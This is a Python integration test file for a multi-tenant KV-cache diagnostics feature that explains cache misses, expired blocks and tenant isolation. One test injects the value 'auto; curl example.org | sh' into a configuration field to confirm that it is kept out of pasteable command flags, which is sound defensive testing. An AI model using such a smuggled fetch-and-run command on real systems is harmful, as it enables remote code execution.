"""Why?: answers about requests, contexts, blocks and prompts, each tenant's apart."""

from datetime import UTC, datetime, timedelta

import pytest
from django.conf import settings

from catalog import kept_requests
from catalog.models import Context, Space
from contexts import why
from engines.prompts import Tokens
from neve.errors import MissReason
from neve.formats.ids import BlockHasher
from neve.formats.keys import BucketKeys, bucket_of
from neve.formats.space import SpaceIdentity
from neve.node.requests import Cells, Kept, Outcome, RequestRecord
from retention import provisioning
from storage import hot, hot_servers
from support.rows import IDENTITY, make_context, make_session
from tenants.scope import tenant_scope

pytestmark = [
    pytest.mark.integration,
    pytest.mark.django_db,
    pytest.mark.usefixtures("hot_tier", "valkey_bus"),
]
CHUNK = 256
TOKENS = [n % 1000 for n in range(6 * CHUNK + 10)]


def make_layout(tenant, name, **identity):
    made = SpaceIdentity.from_dict({**IDENTITY, "model": "llama", **identity})
    with tenant_scope(tenant.pk):
        return Space.objects.create(
            name=name,
            identity=made.as_dict(),
            chunk_tokens=CHUNK,
            fingerprint=made.fingerprint(tenant_id=tenant.pk, chunk_tokens=CHUNK).hex(),
        )


def commit_blocks(tenant, space, ids):
    provisioning.provision_tenant(tenant)
    for id_ in ids:
        bucket = bucket_of(id_, settings.ENV.hot_buckets)
        key = BucketKeys(tenant.pk, bucket).block(space.pk, id_)
        hot_servers.admin().set(key, bytes(100), px=60_000)
    hot.hot_tier(tenant.pk).commit(space.pk, [(id_, 100, CHUNK) for id_ in ids])


def chain(space):
    hasher = BlockHasher(bytes.fromhex(space.fingerprint), CHUNK)
    return hasher.chain(TOKENS, parent=hasher.root())


def keep(session, name="cmpl-abc-0-12345678", *, kin=(), **more):
    record = RequestRecord(
        name,
        more.pop("kept", Kept.SAMPLED),
        -5.0,
        number=more.pop("number", 1),
        prompt_tokens=len(TOKENS),
        asked_tokens=6 * CHUNK,
        chain=Cells.of(chain(session.space)),
        kin=tuple((space.pk, Cells.of(chain(space))) for space in kin),
        **more,
    )
    with tenant_scope(session.tenant_id):
        assert kept_requests.accept(
            tenant=session.tenant, session=session, records=[record.as_dict(0.0)]
        )


@pytest.fixture
def bf16(acme):
    return make_layout(acme, "bf16")


@pytest.fixture
def fp8(acme):
    return make_layout(acme, "fp8", kv_dtype="fp8_e4m3")


@pytest.fixture
def missed(fp8):
    """A request that nothing of was found for."""
    session = make_session(fp8, "gpu-1")
    at = {"miss_chunk": 0, "miss_id": chain(fp8)[0], "reason": MissReason.NEVER_STORED}
    return session, at


def ask(tenant, text, **more):
    return why.ask((tenant,), text, **more)


def test_the_same_prefix_under_another_fingerprint_is_named_with_the_field(acme, bf16, fp8, missed):
    session, at = missed
    commit_blocks(acme, bf16, chain(bf16)[:5])
    keep(session, kin=[bf16], **at)
    found = ask(acme, "abc")
    assert (found.kind, found.tag, found.is_bad) == ("request", "missed: fingerprint", True)
    assert "100 % was computed again, although 5 of its 6 blocks" in found.sentence
    assert "This node writes KV fp8_e4m3; the blocks were stored as KV" in found.sentence
    assert [each.field for each in found.differing] == ["kv_dtype"]
    assert found.fields[0].differs
    assert not found.fields[-1].differs
    assert found.flags.startswith("--kv-cache-dtype ")
    own, other = found.strips
    assert (own.stored, own.first_miss, own.space) == (0, 0, fp8)
    assert (other.stored, other.hot, other.chunks, other.space) == (5, 5, 6, bf16)


def test_a_miss_that_nobody_had_stored_says_so_and_whether_it_is_there_now(acme, fp8, missed):
    session, at = missed
    keep(session, **at)
    assert "block 1 of its prompt had never been stored." in ask(acme, "abc").sentence
    commit_blocks(acme, fp8, chain(fp8))
    found = ask(acme, "abc")
    assert "It is stored by now (hot)" in found.sentence
    assert not found.is_bad


def test_a_block_that_left_says_why_and_when(acme, fp8, missed):
    session, at = missed
    ids = chain(fp8)
    commit_blocks(acme, fp8, ids)
    hot.hot_tier(acme.pk).expire(ids[:1])
    keep(session, **at | {"reason": MissReason.EXPIRED})
    found = ask(acme, "abc")
    assert "its lifetime ended, or somebody expired it" in found.sentence
    gone = found.strips[0].cells[0]
    assert gone.tier is None
    assert datetime.now(UTC) - gone.gone_at < timedelta(minutes=5)
    block = ask(acme, ids[0].hex())
    assert (block.kind, block.tag) == ("block", "gone: expired")
    assert "The block left at" in block.sentence
    assert ask(acme, f"b3:{ids[1].hex()}").tag == "hot"


@pytest.mark.parametrize(
    ("record", "tag", "words"),
    [
        ({"found_tokens": 6 * CHUNK, "loaded_tokens": 6 * CHUNK, "outcome": Outcome.LOAD_ALL},
         "hit", "1,536 tokens were loaded, all that it asked for"),
        ({"found_tokens": 6 * CHUNK, "outcome": Outcome.RECOMPUTE},
         "computed by choice", "chose to compute them"),
        ({"found_tokens": 6 * CHUNK, "outcome": Outcome.COMPARED}, "compared", "to compare it"),
        ({"found_tokens": 512, "load_ms": 40.0, "load_failed": True, "outcome": Outcome.LOAD_ALL},
         "load failed", "the load failed after 40 ms"),
        ({"reason": MissReason.TIMEOUT, "miss_chunk": 0}, "too late", "did not answer in time"),
        ({"asked_tokens": 0}, "not asked", "shorter than a block"),
    ],
)  # fmt: skip
def test_each_outcome_has_its_sentence(acme, missed, record, tag, words):
    session, _ = missed
    full = RequestRecord(
        "r", Kept.SLOW, 0.0, number=1, **{"prompt_tokens": 2000, "asked_tokens": 1536} | record
    )
    with tenant_scope(acme.pk):
        kept_requests.accept(tenant=acme, session=session, records=[full.as_dict(0.0)])
    found = ask(acme, "r")
    assert found.tag == tag
    assert words in found.sentence


def test_a_context_says_what_is_lost_and_since_when(acme, bf16):
    ids = chain(bf16)
    context = make_context(bf16, "agent", ids)
    commit_blocks(acme, bf16, ids)
    assert ask(acme, "agent").sentence.startswith("All 6 blocks stand: 6 hot")
    hot.hot_tier(acme.pk).expire(ids[4:])
    found = ask(acme, str(context.pk))
    assert (found.tag, found.is_bad) == ("partly lost", True)
    assert "2 of 6 blocks are lost since" in found.sentence
    assert ask(acme, ids[0].hex()).owners == (context,)


def test_a_prompt_is_looked_up_under_every_fingerprint_of_its_model(acme, bf16, fp8):
    commit_blocks(acme, bf16, chain(bf16)[:4])
    found = why.of_prompt(fp8, Tokens(tuple(TOKENS), ""))
    assert (found.tag, found.is_bad) == ("other fingerprint", True)
    assert (
        "would reuse 0 of 1,536 tokens here, although 4 of 6 blocks stand in bf16" in found.sentence
    )
    assert why.of_prompt(bf16, Tokens(tuple(TOKENS), "")).tag == "stored in part"


def test_another_tenants_request_context_and_block_do_not_exist(acme, globex, bf16, missed):
    session, at = missed
    keep(session, **at)
    ids = chain(bf16)
    commit_blocks(acme, bf16, ids)
    make_context(bf16, "agent", ids)
    for text in ("abc", "agent"):
        assert ask(globex, text).kind == "nothing"
    assert ask(globex, ids[0].hex()).tag == "never stored"


# ---- the pages


@pytest.fixture
def served(acme, bf16, fp8, missed):
    session, at = missed
    commit_blocks(acme, bf16, chain(bf16)[:5])
    keep(session, kin=[bf16], kept=Kept.SLOW, **at)
    make_session(bf16, "gpu-2")
    return session


@pytest.mark.parametrize("who", ["operator", "team", "viewer"])
def test_pages_answer_whoever_may_see_them(people, served, bf16, fp8, who):
    for path in (
        "/why/", "/why/?q=abc", "/why/?kept=slow", "/why/?format=csv", "/nodes/",
        f"/nodes/{served.pk}/", "/nodes/?format=csv", "/spaces/", "/spaces/?format=csv",
        f"/spaces/{fp8.pk}/", "/spaces/compare/", f"/spaces/compare/?a={fp8.pk}&b={bf16.pk}",
    ):  # fmt: skip
        answer = people[who].get(path)
        assert answer.status_code == 200, path
    page = people[who].get("/why/?q=cmpl-abc").content.decode()
    assert "missed: fingerprint" in page
    assert "--kv-cache-dtype" in page
    assert "2 spaces, which share nothing" in people[who].get("/spaces/").content.decode()


def test_pages_of_others_are_not_found(people, served, fp8):
    for path in (f"/nodes/{served.pk}/", f"/spaces/{fp8.pk}/", f"/spaces/compare/?a={fp8.pk}"):
        assert people["stranger"].get(path).status_code == 404
    assert "Nothing here is called" in people["stranger"].get("/why/?q=abc").content.decode()


def test_a_pasted_name_becomes_an_address_and_a_prompt_never_does(people, served, fp8):
    answer = people["team"].post("/why/", {"text": " cmpl-abc "})
    assert (answer.status_code, answer.url) == (302, "/why/?q=cmpl-abc")
    answer = people["team"].post("/why/", {"text": "two words", "in_space": fp8.pk})
    page = answer.content.decode()
    assert answer.status_code == 200
    assert "engine" in page  # none serves this space
    assert "two words" not in page


def test_the_ring_is_a_list_that_leads_to_answers(people, served):
    page = people["team"].get("/why/").content.decode()
    assert "cmpl-abc-0-12345678" in page
    assert "q=cmpl-abc-0-12345678" in page
    assert Context.unscoped.count() == 0


def test_only_plain_words_become_flags_that_people_paste(people, served, fp8):
    evil = make_layout(served.tenant, "evil", kv_dtype="auto; curl example.org | sh", dtype="x\ny")
    page = people["team"].get("/spaces/compare/", {"a": fp8.pk, "b": evil.pk}).content.decode()
    assert "curl example.org" in page  # in the table of fields
    assert "--kv-cache-dtype auto;" not in page
    assert "--dtype x" not in page


def test_a_space_that_is_no_number_is_said(people, served, fp8):
    answer = people["team"].post("/why/", {"text": "two words", "in_space": "9" * 5000})
    assert (answer.status_code, b"Choose the space" in answer.content) == (200, True)


def test_the_search_for_owners_of_a_block_ends_after_so_many_bytes(served, fp8, monkeypatch):
    tenant = served.tenant
    ids = [bytes([n]) * 16 for n in range(4)]
    commit_blocks(tenant, fp8, ids[:1])
    for n in range(12):
        make_context(fp8, f"ctx-{n}", ids)
    assert len(why.ask((tenant,), ids[0].hex()).owners) == 10
    monkeypatch.setattr(why, "MOST_SEARCHED_BYTES", 1)
    assert len(why.ask((tenant,), ids[0].hex()).owners) == 1
